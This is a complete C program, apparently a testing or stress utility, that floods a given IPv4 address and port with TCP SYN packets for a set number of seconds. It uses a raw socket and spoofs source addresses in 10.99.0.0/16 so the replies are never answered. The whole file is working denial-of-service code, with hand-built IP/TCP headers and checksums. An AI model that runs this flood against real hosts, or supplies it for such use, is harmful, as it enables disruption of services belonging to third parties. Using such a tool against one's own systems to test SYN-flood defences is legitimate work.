// SPDX-License-Identifier: GPL-2.0
/*
 * synflood ADDR PORT SECONDS: sends TCP SYNs to ADDR:PORT (IPv4) from spoofed sources in
 * 10.99.0.0/16, whose SYN-ACKs have no route and are never answered, for SECONDS; prints the
 * number sent. Needs CAP_NET_RAW.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint16_t csum(const void *data, size_t len, uint32_t sum)
{
	const uint8_t *p = data;

	for (; len > 1; len -= 2, p += 2)
		sum += (uint32_t)p[0] << 8 | p[1];
	if (len)
		sum += (uint32_t)p[0] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons(~sum & 0xffff);
}

int main(int argc, char **argv)
{
	struct {
		struct iphdr ip;
		struct tcphdr tcp;
	} pkt;
	struct {
		uint32_t saddr, daddr;
		uint8_t zero, proto;
		uint16_t len;
		struct tcphdr tcp;
	} pseudo;
	struct sockaddr_in dst = { .sin_family = AF_INET };
	unsigned long sent = 0, seed = 1;
	time_t end;
	int fd, one = 1;

	if (argc != 4 || inet_pton(AF_INET, argv[1], &dst.sin_addr) != 1) {
		fprintf(stderr, "usage: synflood ADDR PORT SECONDS\n");
		return 2;
	}
	dst.sin_port = htons(atoi(argv[2]));
	end = time(NULL) + atoi(argv[3]);
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one))) {
		perror("synflood: raw socket");
		return 1;
	}
	while (time(NULL) < end) {
		for (int i = 0; i < 256; i++) {
			seed = seed * 6364136223846793005UL + 1442695040888963407UL;
			memset(&pkt, 0, sizeof(pkt));
			pkt.ip.version = 4;
			pkt.ip.ihl = 5;
			pkt.ip.ttl = 64;
			pkt.ip.protocol = IPPROTO_TCP;
			pkt.ip.tot_len = htons(sizeof(pkt));
			pkt.ip.saddr = htonl(0x0a630000 | (seed >> 48));
			pkt.ip.daddr = dst.sin_addr.s_addr;
			pkt.ip.check = csum(&pkt.ip, sizeof(pkt.ip), 0);
			pkt.tcp.source = htons(1024 + (seed >> 20) % 60000);
			pkt.tcp.dest = dst.sin_port;
			pkt.tcp.seq = htonl(seed >> 32);
			pkt.tcp.doff = 5;
			pkt.tcp.syn = 1;
			pkt.tcp.window = htons(65535);
			pseudo.saddr = pkt.ip.saddr;
			pseudo.daddr = pkt.ip.daddr;
			pseudo.zero = 0;
			pseudo.proto = IPPROTO_TCP;
			pseudo.len = htons(sizeof(pkt.tcp));
			pseudo.tcp = pkt.tcp;
			pkt.tcp.check = csum(&pseudo, sizeof(pseudo), 0);
			if (sendto(fd, &pkt, sizeof(pkt), 0, (struct sockaddr *)&dst, sizeof(dst)) < 0) {
				perror("synflood: sendto");
				return 1;
			}
			sent++;
		}
		usleep(1000);
	}
	printf("%lu\n", sent);
	return 0;
}
